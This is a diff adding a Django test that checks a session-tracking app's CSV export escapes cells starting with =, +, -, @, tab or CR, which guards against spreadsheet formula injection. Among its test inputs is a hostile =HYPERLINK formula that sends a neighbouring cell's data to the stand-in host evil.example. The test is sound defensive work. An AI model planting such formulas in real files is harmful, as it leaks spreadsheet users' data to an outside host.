@@ -31,6 +31,27 @@ def test_it_exports_sessions_as_csv(maria_client):
     assert rows[0]["pain_after"] == "3"
 
 
+def test_it_keeps_spreadsheets_from_running_a_note_as_a_formula(maria_client):
+    # OWASP's CSV injection: a cell starting = + - @ (or tab, CR) runs as a formula.
+    notes = {
+        '=HYPERLINK("https://evil.example/?"&A2,"click")': "'=HYPERLINK(",
+        "+1+1": "'+1+1",
+        "-2 reps, felt fine": "'-2 reps",
+        "@SUM(1,1)": "'@SUM(1,1)",
+        "\tcmd": "'\tcmd",
+        "\r=1": "'\r=1",
+        "A plain note = fine": "A plain note = fine",
+    }
+    for note in notes:
+        post_session(maria_client, session_body(notes=note, title="=1+2"))
+    response = maria_client.get(reverse("export_csv"))
+    rows = list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))
+    assert [r["title"] for r in rows] == ["'=1+2"] * len(notes)
+    for row, starts in zip(rows, notes.values(), strict=True):
+        assert row["notes"].startswith(starts)
+    assert maria_client.get(reverse("export_json")).json()["sessions"][0]["notes"].startswith("=")
+
+
 def test_it_exports_the_morning_check_ins_as_csv(maria_client, maria):
     checkin_record(user=maria, date=timezone.localdate(), pain=2, sore=True)
     rows = list(
